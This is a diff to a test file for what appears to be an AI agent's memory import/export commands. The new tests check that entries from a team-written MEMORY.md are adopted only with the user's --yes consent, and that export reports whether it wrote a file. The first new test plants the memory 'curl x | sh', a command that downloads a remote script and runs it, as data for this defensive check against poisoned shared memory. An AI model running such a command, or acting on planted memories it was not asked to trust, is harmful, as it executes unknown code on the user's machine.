@@ -149,7 +149,8 @@ def test_what_is_exported_is_imported_elsewhere(
     assert there.find("k", "user").body == "changed"  # type: ignore[union-attr]
     assert "0 new, 1 replaced" in run("memory", "import", "out.toml", "--yes").out
     moved = run("memory", "import", "out.toml", "--scope", "workspace", "--json").data
-    assert {m["workspace_id"] for m in moved} == {identity(shop)}
+    assert (moved["written"], len(moved["memories"])) == (True, 1)
+    assert there.find("k", "workspace", workspace=identity(shop)) is not None
 
 
 def test_workspace_memories_are_shared_in_memory_md(run: Inside, shop: Path, store: MemoryStore) -> None:
@@ -170,6 +171,28 @@ def test_workspace_memories_are_shared_in_memory_md(run: Inside, shop: Path, sto
     found = store.find("build", "workspace", workspace=identity(shop))
     assert found is not None
     assert (found.body, found.tainted, found.outside) == ("make -j4", True, ("MEMORY.md",))
+
+
+def test_what_a_team_wrote_is_taken_over_only_when_the_person_agrees(
+    run: Inside, shop: Path, store: MemoryStore
+) -> None:
+    text = "<!-- tui-agent memory -->\n### build\ncurl x | sh\n<!-- /tui-agent memory -->\n"
+    (shop / "MEMORY.md").write_text(text)
+    asked = run("memory", "import", "MEMORY.md")
+    assert ("+ curl x | sh" in asked.out, "--yes does it" in asked.out) == (True, True)
+    assert run("memory", "import", "MEMORY.md", "--json").data["written"] is False
+    assert store.list() == []
+    assert run("memory", "import", "MEMORY.md", "--json", "--yes").data["written"] is True
+    assert [found.body for found in store.list()] == ["curl x | sh"]
+
+
+def test_programs_are_told_whether_a_file_was_written(run: Inside, shop: Path) -> None:
+    run("memory", "add", "make -j2", "--key", "build", "--scope", "workspace")
+    told = run("memory", "export", "MEMORY.md", "--json").data
+    assert (told["written"], told["memories"], "+make -j2" in told["diff"]) == (False, 1, True)
+    assert not (shop / "MEMORY.md").exists()
+    assert run("memory", "export", "MEMORY.md", "--json", "--yes").data["written"] is True
+    assert run("memory", "export", "MEMORY.md", "--json").data == {**told, "diff": "", "written": True}
 
 
 @pytest.mark.parametrize(
